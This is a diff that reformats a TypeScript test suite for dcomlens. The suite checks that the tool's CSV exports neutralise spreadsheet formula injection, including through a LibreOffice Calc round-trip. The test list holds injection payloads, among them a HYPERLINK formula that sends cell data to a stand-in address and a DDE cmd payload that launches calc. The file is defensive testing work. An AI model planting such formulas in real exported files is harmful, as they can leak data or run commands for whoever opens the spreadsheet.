@@ -22,7 +22,16 @@ import type { EngineResponse } from '../../src/engine/worker/protocol';
 import { hostileFiles } from './hostile-data';
 
 /** Cells a spreadsheet would run; each must leave dcomlens with a leading apostrophe. */
-const DANGEROUS = ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://203.0.113.1/?x="&A1,"x")', "=cmd|' /C calc'!A0"];
+const DANGEROUS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '=HYPERLINK("http://203.0.113.1/?x="&A1,"x")',
+  "=cmd|' /C calc'!A0",
+];
 const SAFE = ['1+1', 'mmc.exe -Embedding', "'already quoted", ' =1+1 (leading space)'];
 
 const dir = mkdtempSync(join(tmpdir(), 'dcomlens-formula-'));
@@ -31,7 +40,11 @@ afterAll(() => rmSync(dir, { recursive: true, force: true }));
 function capture() {
   let out = '';
   let err = '';
-  return { io: { out: (s: string) => void (out += s), err: (s: string) => void (err += s) }, out: () => out, err: () => err };
+  return {
+    io: { out: (s: string) => void (out += s), err: (s: string) => void (err += s) },
+    out: () => out,
+    err: () => err,
+  };
 }
 
 /** A one-column CSV table file of the given cells, as the CLI's `run --table` reads it. */
@@ -66,7 +79,11 @@ describe('formula neutralisation in every CSV dcomlens writes', () => {
     const file = cellsFile('cells.csv', [...DANGEROUS, ...SAFE]);
     const neutral = await cliRun(file, []);
     // The CLI sorts rows by their cells: compare by the Id column.
-    const byId = (rows: string[][]) => rows.slice(1).sort((a, b) => Number(a[1]) - Number(b[1])).map((r) => r[0]);
+    const byId = (rows: string[][]) =>
+      rows
+        .slice(1)
+        .sort((a, b) => Number(a[1]) - Number(b[1]))
+        .map((r) => r[0]);
     expect(byId(neutral)).toEqual([...DANGEROUS.map((v) => `'${v}`), ...SAFE]);
     const raw = await cliRun(file, ['--raw']);
     expect(byId(raw)).toEqual([...DANGEROUS, ...SAFE]);
@@ -89,7 +106,8 @@ describe('formula neutralisation in every CSV dcomlens writes', () => {
     const posted: EngineResponse[] = [];
     const server = new EngineServer((m) => posted.push(m));
     let id = 1;
-    for (const [name, bytes] of Object.entries(files)) await server.handle({ kind: 'ingest', id: id++, name, file: new Blob([bytes]) });
+    for (const [name, bytes] of Object.entries(files))
+      await server.handle({ kind: 'ingest', id: id++, name, file: new Blob([bytes]) });
     await server.handle({ kind: 'detect', id: id++, allowList: null });
     for (const raw of [false, true]) {
       await server.handle({ kind: 'export-csv', id: id, options: { raw } });
@@ -112,7 +130,9 @@ describe('formula neutralisation in every CSV dcomlens writes', () => {
 const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p)) ?? null;
 const skipCalc = SOFFICE === null && !process.env.CI;
 if (skipCalc)
-  console.warn('LibreOffice check skipped: soffice not found (apt-get install -y libreoffice-calc-nogui). With CI set it runs and fails.');
+  console.warn(
+    'LibreOffice check skipped: soffice not found (apt-get install -y libreoffice-calc-nogui). With CI set it runs and fails.',
+  );
 
 /**
  * Opens `csv` in LibreOffice Calc (comma-separated, UTF-8, formulas evaluated as a user opening
@@ -133,7 +153,17 @@ function calcRoundTrip(csv: string, name: string): string[][] {
   const profile = `file://${join(work, 'profile')}`;
   const r = spawnSync(
     SOFFICE,
-    [`-env:UserInstallation=${profile}`, '--headless', '--norestore', `--infilter=${filter}:${opts}`, '--convert-to', `csv:${filter}:${opts}`, '--outdir', outDir, src],
+    [
+      `-env:UserInstallation=${profile}`,
+      '--headless',
+      '--norestore',
+      `--infilter=${filter}:${opts}`,
+      '--convert-to',
+      `csv:${filter}:${opts}`,
+      '--outdir',
+      outDir,
+      src,
+    ],
     { encoding: 'utf8', timeout: 120_000 },
   );
   // With sheet -1 (all sheets) Calc names the file <name>-<sheet>.csv.
@@ -145,7 +175,8 @@ function calcRoundTrip(csv: string, name: string): string[][] {
 
 describe.skipIf(skipCalc)('LibreOffice Calc evaluates no formula in a neutralised export', () => {
   it('=1+1 and friends come back as literal text; the raw control evaluates to 2', async () => {
-    if (SOFFICE) console.log(`spreadsheet engine: ${execFileSync(SOFFICE, ['--version'], { encoding: 'utf8' }).trim()}`);
+    if (SOFFICE)
+      console.log(`spreadsheet engine: ${execFileSync(SOFFICE, ['--version'], { encoding: 'utf8' }).trim()}`);
     const cells = ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=SUM(1;1)', '=2*3'];
     const file = cellsFile('calc-cells.csv', cells);
     await cliRun(file, []);
@@ -154,14 +185,21 @@ describe.skipIf(skipCalc)('LibreOffice Calc evaluates no formula in a neutralise
     const rawCsv = readFileSync(join(dir, 'out---raw.csv'), 'utf8');
 
     // Rows come back in the CLI's sorted order: key them by the Id column.
-    const byId = (rows: string[][]) => rows.slice(1).sort((a, b) => Number(a[1]) - Number(b[1])).map((r) => r[0]);
+    const byId = (rows: string[][]) =>
+      rows
+        .slice(1)
+        .sort((a, b) => Number(a[1]) - Number(b[1]))
+        .map((r) => r[0]);
     const neutral = byId(calcRoundTrip(neutralCsv, 'neutral'));
     const raw = byId(calcRoundTrip(rawCsv, 'raw'));
     console.log('LibreOffice, neutralised export →', JSON.stringify(neutral), '| raw export →', JSON.stringify(raw));
     // Neutralised: each cell shows its text (Calc keeps the apostrophe-led text as the text itself,
     // with or without the apostrophe); never a computed number.
     neutral.forEach((v, i) => {
-      expect(v === cells[i] || v === `'${cells[i]}`, `cell ${i}: ${JSON.stringify(v)} should be the literal ${cells[i]}`).toBe(true);
+      expect(
+        v === cells[i] || v === `'${cells[i]}`,
+        `cell ${i}: ${JSON.stringify(v)} should be the literal ${cells[i]}`,
+      ).toBe(true);
     });
     expect(neutral).not.toContain('2');
     expect(neutral).not.toContain('6');
